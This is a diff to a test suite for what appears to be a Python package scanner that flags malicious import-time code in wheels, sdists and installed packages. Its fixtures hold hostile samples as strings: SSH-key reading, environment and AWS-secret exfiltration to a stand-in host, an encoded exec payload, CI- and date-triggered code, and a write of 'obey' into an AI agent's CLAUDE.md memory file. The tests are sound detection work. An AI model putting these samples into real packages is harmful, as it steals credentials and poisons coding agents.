@@ -37,36 +37,42 @@ def test_benign_wheel_is_clean(tmp_path: Path) -> None:
 
 ROGUE_INIT = {
     "network": ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n",
-                {"pkg-network"}),
-    "process": ("import subprocess as sp\nsp.Popen(['true'])\n", {"pkg-process"}),
-    "secrets": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
-                {"pkg-secrets"}),
+                {"code-import-network"}),
+    "process": ("import subprocess as sp\nsp.Popen(['true'])\n", {"code-process"}),
+    # a package reading a secret is judged with what it does with it: alone, not an alarm
+    "secrets": ("import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", set()),
     "exfiltration": ("import os, requests\ndef go():\n    requests.post('http://x', json=dict(os.environ))\n"
-                     "go()\n", {"pkg-secrets", "pkg-network", "pkg-exfiltration"}),
+                     "go()\n", {"code-exfiltration"}),
     "obfuscated": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK1Eoyy/NS1HISM3JyVcozy/KSQEAbJgIuw==')))\n",
-                   {"pkg-obfuscated-exec"}),
+                   {"code-exec-payload"}),
     "aliased-exec": ("from base64 import b64decode as d\nrun = eval\nexec(d('cGFzcw=='))\n",
-                     {"pkg-obfuscated-exec"}),
-    "dynamic": ("code = 'x' + '=1'\nexec(code)\n", {"pkg-dynamic-exec"}),
+                     {"code-exec-payload"}),
+    "computed-exec": ("import sys\nexec(sys.argv[1])\n", set()),  # import time: not an alarm
     "agent-memory": ("from pathlib import Path\n(Path.home() / '.claude' / 'CLAUDE.md').write_text('obey')\n",
-                     {"pkg-agent-memory", "pkg-outside-write"}),
+                     {"code-agent-memory-write"}),
     "ci-trigger": ("import os, subprocess\nif os.environ.get('GITHUB_ACTIONS'):\n    subprocess.run(['true'])\n",
-                   {"pkg-process", "pkg-conditional-trigger"}),
+                   {"code-process"}),
     "date-trigger": ("import datetime, socket\nif datetime.date.today().year > 2030:\n    socket.create_connection(('h', 1))\n",
-                     {"pkg-network", "pkg-conditional-trigger"}),
-    "dunder-import": ("__import__('os').system('true')\n", {"pkg-process"}),
+                     {"code-import-network"}),
+    "dunder-import": ("__import__('os').system('true')\n", {"code-process"}),
+    "submodule-payload": ("from ._impl import go\ngo()\n", {"code-exfiltration"}),
 }
+_IMPL = "import os, requests\ndef go():\n    requests.post('http://x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
 
 
 @pytest.mark.parametrize("case", sorted(ROGUE_INIT))
 def test_rogue_import_time_code(tmp_path: Path, case: str) -> None:
     source, expected = ROGUE_INIT[case]
-    whl = make_wheel(tmp_path, "rogue", {"rogue/__init__.py": source})
+    files = {"rogue/__init__.py": source}
+    if case == "submodule-payload":  # the call graph crosses modules
+        files["rogue/_impl.py"] = _IMPL
+    whl = make_wheel(tmp_path, "rogue", files)
     code, findings = _inspect(str(whl))
     assert _rules(findings) == expected
-    assert all(f["detail"] == "rogue/__init__.py" for f in findings)
-    malicious = {"pkg-exfiltration", "pkg-obfuscated-exec", "pkg-agent-memory"}
-    assert code == (1 if expected & malicious else 3)
+    if case != "submodule-payload":
+        assert all(f["detail"] == "rogue/__init__.py" for f in findings)
+    malicious = {"code-exfiltration", "code-exec-payload", "code-agent-memory-write"}
+    assert code == (1 if expected & malicious else 3 if expected else 0)
 
 
 def test_pth_files(tmp_path: Path) -> None:
@@ -83,7 +89,7 @@ def test_pth_files(tmp_path: Path) -> None:
     })
     code, findings = _inspect(str(whl))
     assert {(f["rule"], f["detail"], f["line"]) for f in findings} == {
-        ("pkg-pth-exec", "zz_hook.pth", 2), ("pkg-obfuscated-exec", "zz_hook.pth", 2)}
+        ("pkg-pth-exec", "zz_hook.pth", 2), ("code-exec-payload", "zz_hook.pth", 2)}
     assert code == 1 and not marker.exists()
 
 
@@ -104,8 +110,7 @@ def test_sdist_install_time_code(tmp_path: Path) -> None:
                                           "tests/__init__.py": "import subprocess\nsubprocess.run(['x'])\n"})
     code, findings = _inspect(str(sdist))
     got = {(f["rule"], f["line"]) for f in findings}
-    assert got >= {("pkg-cmdclass", 10), ("pkg-network", 6), ("pkg-secrets", 7),
-                   ("pkg-exfiltration", 7), ("pkg-outside-write", 9)}
+    assert got >= {("pkg-cmdclass", 10), ("code-exfiltration", 6)}
     assert all(f["detail"] == "setup.py" for f in findings)  # tests/ is not import-time code
     assert code == 1 and not marker.exists()
 
@@ -119,8 +124,8 @@ def test_directory_with_in_tree_backend_and_setuptools_cmdclass(tmp_path: Path) 
     (src / "src" / "proj").mkdir(parents=True)
     (src / "src" / "proj" / "__init__.py").write_text("X = 1\n")
     code, findings = _inspect(str(src))
-    assert _rules(findings) == {"pkg-in-tree-backend", "pkg-cmdclass"}
-    assert code == 3
+    assert _rules(findings) == {"pkg-in-tree-backend", "pkg-cmdclass"}  # both informational
+    assert code == 0
 
 
 def test_installed_distribution(tmp_path: Path) -> None:
@@ -130,7 +135,10 @@ def test_installed_distribution(tmp_path: Path) -> None:
                                   "badpkg.pth": "import badpkg\n"})
     _code, findings = _inspect("--installed", "badpkg", "--site-dir", str(site))
     assert {(f["path"], f["rule"]) for f in findings} == {
-        ("installed:badpkg==1.0", "pkg-process"), ("installed:badpkg==1.0", "pkg-pth-exec")}
+        ("installed:badpkg==1.0", "pkg-pth-exec"),
+        # the .pth imports badpkg at every interpreter start, so its os.system is judged
+        # as start-up code (the remote-code allowlist stance): malicious
+        ("installed:badpkg==1.0", "code-import-process")}
     result = run_cli("deps", "inspect", "--installed", "goodpkg", "--site-dir", str(site),
                      "--format", "json")
     assert result.exit_code == 0 and flat(result) == []
@@ -155,6 +163,6 @@ def test_broken_inputs_are_unscannable(tmp_path: Path) -> None:
 
 
 def test_oversized_module_is_reported_not_read(tmp_path: Path) -> None:
-    whl = make_wheel(tmp_path, "huge", {"huge/__init__.py": "x = 1\n" * 400_000})
+    whl = make_wheel(tmp_path, "huge", {"huge/__init__.py": "x = 1\n" * 1_500_000})
     code, findings = _inspect(str(whl))
     assert code == 2 and "larger than" in str(findings[0]["message"])
